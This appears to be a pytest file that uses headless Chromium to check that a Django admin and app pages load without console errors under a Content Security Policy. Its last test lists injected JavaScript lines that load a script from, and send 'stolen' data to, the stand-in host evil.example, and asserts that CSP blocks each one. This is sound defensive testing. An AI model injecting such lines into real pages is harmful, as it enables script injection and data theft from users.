"""The policies in a real browser: the pages do all they do, and nothing they do is refused.

Wants Chromium on the machine (Debian: ``apt install chromium``); without it these tests are left out.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from django.contrib import admin
from django.contrib.auth.models import User
from django.urls import reverse

from tests.admin.conftest import deliver, rule, shop  # noqa: F401
from tests.hostile.chromium import BINARY, Chromium

pytestmark = [
    pytest.mark.django_db(transaction=True),
    pytest.mark.skipif(BINARY is None, reason="there is no Chromium on this machine"),
]
ALPINE_RUNS = "!document.querySelector('[x-cloak]') && typeof Alpine == 'object'"


@pytest.fixture(scope="module")
def chromium(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chromium]:
    chromium = Chromium(tmp_path_factory.mktemp("chromium"))
    yield chromium
    chromium.close()


@pytest.fixture
def window(chromium: Chromium, live_server: Any) -> Chromium:
    chromium.complaints.clear()
    return chromium


@pytest.fixture
def desk(window: Chromium, live_server: Any) -> Chromium:
    """Signed in as a superuser, by the form."""
    User.objects.create_superuser("root", password="right-horse-battery")
    window.go(f"{live_server}{reverse('admin:login')}")
    window.press(
        "document.querySelector('[name=username]').value = 'root';"
        "document.querySelector('[name=password]').value = 'right-horse-battery';"
        "document.querySelector('[type=submit]').click()"
    )
    assert window.run("location.pathname") == reverse("admin:index")
    return window


def pages() -> list[str]:
    """Every list of the admin."""
    names = [f"{model._meta.app_label}_{model._meta.model_name}" for model in admin.site._registry]
    return ["admin:index", *(f"admin:{name}_changelist" for name in names)]


def test_all_lists_of_the_admin_open_without_a_complaint(
    desk: Chromium,
    live_server: Any,
    deliver: Any,  # noqa: F811
) -> None:
    deliver("held")
    for name in pages():
        desk.go(f"{live_server}{reverse(name)}")
        assert desk.run(ALPINE_RUNS), name
        assert (name, desk.complaints) == (name, [])


def test_a_row_of_everything_opens_without_a_complaint(
    desk: Chromium,
    live_server: Any,
    deliver: Any,  # noqa: F811
) -> None:
    deliver("held")
    for model in admin.site._registry:
        row = model._default_manager.first()
        if row is None:
            continue
        name = f"admin:{model._meta.app_label}_{model._meta.model_name}_change"
        desk.go(f"{live_server}{reverse(name, args=[row.pk])}")
        assert desk.run(ALPINE_RUNS), name
        assert (name, desk.complaints) == (name, [])


def test_the_documents_page_shows_its_operations(window: Chromium, live_server: Any) -> None:
    window.go(f"{live_server}/docs")
    assert window.run("document.querySelectorAll('.opblock').length") > 30
    window.run("document.querySelector('.opblock-summary button').click()")
    assert window.complaints == []


@pytest.mark.parametrize("address", ["/connected/amocrm", "/webhook/create"])
def test_the_pages_after_consent_look_as_they_should(
    window: Chromium, live_server: Any, address: str
) -> None:
    window.go(f"{live_server}{address}")
    assert window.run("getComputedStyle(document.querySelector('main')).textAlign") == "center"
    status = [said for said in window.complaints if "status of 400" not in said]
    assert status == []


SMUGGLED = (
    "document.head.append(Object.assign(document.createElement('script'), {src: '//evil.example/x.js'}))",
    "document.body.append(Object.assign(new Image(), {src: 'https://evil.example/?stolen'}))",
    "fetch('https://evil.example/', {method: 'POST', body: 'stolen'}).catch(() => 0)",
    "document.body.insertAdjacentHTML('beforeend', '<b onclick=1>x</b>')",
    "document.body.insertAdjacentHTML('beforeend', '<iframe src=//evil.example></iframe>')",
)


def test_what_a_smuggled_line_would_do_is_refused(desk: Chromium) -> None:
    """The same ears that heard nothing above hear this."""
    for line in SMUGGLED:
        desk.complaints.clear()
        desk.run(f"{line}; 0")
        desk.run("new Promise(done => setTimeout(done, 300))")
        assert any("Content Security Policy" in said for said in desk.complaints), (line, desk.complaints)
